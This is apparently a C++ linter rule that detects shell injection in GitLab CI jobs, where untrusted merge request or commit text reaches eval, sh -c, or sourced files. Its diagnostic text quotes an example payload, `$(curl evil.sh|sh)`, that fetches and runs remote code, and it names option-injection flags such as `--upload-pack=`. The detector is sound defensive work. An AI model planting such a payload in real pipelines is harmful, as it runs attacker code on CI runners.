// GitLab's predefined variables that hold text an outsider chooses: a merge request's title
// and description, a commit's message and author, branch and tag names (git allows `$`, `(`,
// `;`, `|` and quotes in them). The shell expands `$CI_COMMIT_MESSAGE` to its text and does
// not run what the text says; that happens only when the text is parsed as shell code again:
// `eval`, `sh -c "... $X ..."`, or a file written with the text and then sourced. Unquoted
// free text splits into words that a command may take as options (a note). (GitHub's `${{ }}`
// expressions are substituted into the script before the shell parses it; that is
// github-script-injection.)
#include <fmt/format.h>

#include <algorithm>
#include <map>
#include <string>
#include <string_view>

#include "compiler/support/shell_lexer.h"
#include "lint/rules.h"
#include "lint/script_map.h"
#include "lint/shell_words.h"

namespace pipec::lint {
namespace {

bool Untrusted(std::string_view name) {
  static constexpr std::string_view kNames[] = {
      "CI_MERGE_REQUEST_TITLE", "CI_MERGE_REQUEST_DESCRIPTION", "CI_COMMIT_MESSAGE",
      "CI_COMMIT_TITLE", "CI_COMMIT_DESCRIPTION", "CI_COMMIT_TAG_MESSAGE", "CI_COMMIT_AUTHOR",
      "CI_COMMIT_REF_NAME", "CI_COMMIT_BRANCH", "CI_COMMIT_TAG",
      "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME", "CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME",
      "CI_MERGE_REQUEST_SOURCE_PROJECT_PATH"};
  return std::find(std::begin(kNames), std::end(kNames), name) != std::end(kNames);
}

// Free text: may hold spaces and start words with `-`. (Git refuses ref names with spaces or
// a leading dash, so branch and tag names cannot split into options.)
bool FreeText(std::string_view name) {
  static constexpr std::string_view kNames[] = {
      "CI_MERGE_REQUEST_TITLE", "CI_MERGE_REQUEST_DESCRIPTION", "CI_COMMIT_MESSAGE", "CI_COMMIT_TITLE",
      "CI_COMMIT_DESCRIPTION", "CI_COMMIT_TAG_MESSAGE", "CI_COMMIT_AUTHOR"};
  return std::find(std::begin(kNames), std::end(kNames), name) != std::end(kNames);
}

// Whether the expansion at script offset `at` inside word `w` stands outside quotes.
bool Unquoted(const shell::ShellWord& w, uint32_t at) {
  bool single = false, dbl = false;
  for (size_t i = 0; i < w.raw.size() && w.offset + i < at; ++i) {
    char c = w.raw[i];
    if (c == '\\' && !single) {
      ++i;
    } else if (c == '\'' && !dbl) {
      single = !single;
    } else if (c == '"' && !single) {
      dbl = !dbl;
    }
  }
  return !single && !dbl;
}

const shell::ShellVarRef* UntrustedIn(const shell::ShellWord& w) {
  for (const shell::ShellVarRef& v : w.vars)
    if (!v.expression && Untrusted(v.name)) return &v;
  return nullptr;
}

class Scan {
 public:
  Scan(RuleContext& ctx, const ir::Job& j, const ir::Step& s, std::string script, std::string later)
      : ctx_(ctx), job_(j), script_(std::move(script)), later_(std::move(later)),
        map_(ctx.sources(), s.range, script_) {}

  void Run() {
    std::vector<shell::ShellCommand> cmds = shell::LexShell(script_);
    for (size_t i = 0; i < cmds.size(); ++i) {
      const shell::ShellCommand& c = cmds[i];
      std::string_view n = c.Name();
      if (n == "eval") {
        for (size_t w = 1; w < c.words.size(); ++w)
          if (const shell::ShellVarRef* v = UntrustedIn(c.words[w]))
            return Report(*v, "`eval` runs it as shell code");
      }
      if (IsShell(n))
        for (size_t w = 1; w + 1 < c.words.size(); ++w)
          if (c.words[w].value == "-c") {
            if (const shell::ShellVarRef* v = UntrustedIn(c.words[w + 1]))
              return Report(*v, fmt::format("`{} -c` runs it as shell code", n));
            break;
          }
      // git commit -m $CI_COMMIT_MESSAGE: the words of the text become arguments, and one that
      // starts with `-` an option (argument injection: `--upload-pack=`, `--output`). What an
      // option can do depends on the command, so this is a note. Builtins that only print or
      // assign take no dangerous options.
      static constexpr std::string_view kHarmless[] = {"echo", "printf", "export", "test", "[", "local", "read",
                                                       "declare", "readonly", ":", "true"};
      if (!n.empty() && std::find(std::begin(kHarmless), std::end(kHarmless), n) == std::end(kHarmless))
        for (size_t w = 1; w < c.words.size(); ++w)
          for (const shell::ShellVarRef& v : c.words[w].vars)
            if (!v.expression && FreeText(v.name) && Unquoted(c.words[w], v.offset)) {
              ReportArgument(v, n);
              w = c.words.size();
              break;
            }
      // echo "export X=$CI_COMMIT_MESSAGE" > vars.sh ... source vars.sh
      for (const shell::ShellRedirect& r : c.redirects) {
        if (r.op != ">" && r.op != ">>" && r.op != ">|") continue;
        const shell::ShellVarRef* v = nullptr;
        for (size_t w = 1; w < c.words.size() && !v; ++w) v = UntrustedIn(c.words[w]);
        if (!v || r.target.value.empty() || r.target.value.find('$') != std::string::npos) continue;
        if (SourcedLater(cmds, i, r.target.value))
          return Report(*v, fmt::format("it is written to {}, which the job then sources as "
                                        "shell code",
                                        r.target.value));
      }
    }
  }

 private:
  bool SourcedLater(const std::vector<shell::ShellCommand>& cmds, size_t i, const std::string& file) {
    std::vector<shell::ShellCommand> rest(cmds.begin() + static_cast<std::ptrdiff_t>(i) + 1, cmds.end());
    for (shell::ShellCommand& c : shell::LexShell(later_)) rest.push_back(std::move(c));
    for (const shell::ShellCommand& c : rest) {
      std::string_view n = c.Name();
      if ((n == "source" || n == ".") && c.words.size() > 1 && NamesFile(c.words[1], file)) return true;
      if (IsShell(n) && c.words.size() > 1 && NamesFile(c.words[1], file)) return true;
    }
    return false;
  }

  void Report(const shell::ShellVarRef& v, std::string how) {
    Diagnostic* d = ctx_.Report(
        DiagKind::UntrustedCode, map_.At(v.offset, v.length),
        fmt::format("${} holds text that whoever opens the merge request or pushes the commit "
                    "chooses, and {}: a value like `$(curl evil.sh|sh)` runs in job {}",
                    v.name, how, job_.name));
    if (!d) return;
    d->AboutJob(job_.name);
    d->Note({}, fmt::format("pass it as data: an argument (\"${}\", quoted) or a file the "
                            "command reads, never text that is parsed as code",
                            v.name));
  }

  void ReportArgument(const shell::ShellVarRef& v, std::string_view command) {
    Diagnostic* d = ctx_.Report(
        DiagKind::UntrustedCode, map_.At(v.offset, v.length),
        fmt::format("${} is unquoted in the arguments of {}: its words become separate arguments, "
                    "and a word that starts with `-` an option the merge request or commit author "
                    "chooses",
                    v.name, command));
    if (!d) return;
    d->severity = Severity::Note;
    d->AboutJob(job_.name);
    d->Note({}, fmt::format("quote it (\"${}\"), and end the options with `--` where {} takes it; "
                            "what an option can do depends on the command, so this is a note",
                            v.name, command));
  }

  RuleContext& ctx_;
  const ir::Job& job_;
  std::string script_;
  std::string later_;
  ScriptMap map_;
};

}  // namespace

void CheckUntrustedCode(RuleContext& ctx) {
  const ir::Pipeline& p = ctx.pipeline();
  if (p.origin != ir::Origin::GitLab) return;
  for (const ir::Job& j : p.jobs) {
    if (j.hidden) continue;
    for (size_t k = 0; k < j.steps.size(); ++k) {
      const ir::Step& s = j.steps[k];
      if (s.kind != ir::Step::Kind::Run) continue;
      if (!s.shell.empty() && !IsShell(s.shell)) continue;
      Scan(ctx, j, s, RenderText(s.script), LaterInSameShell(p, j, k)).Run();
    }
  }
}

}  // namespace pipec::lint
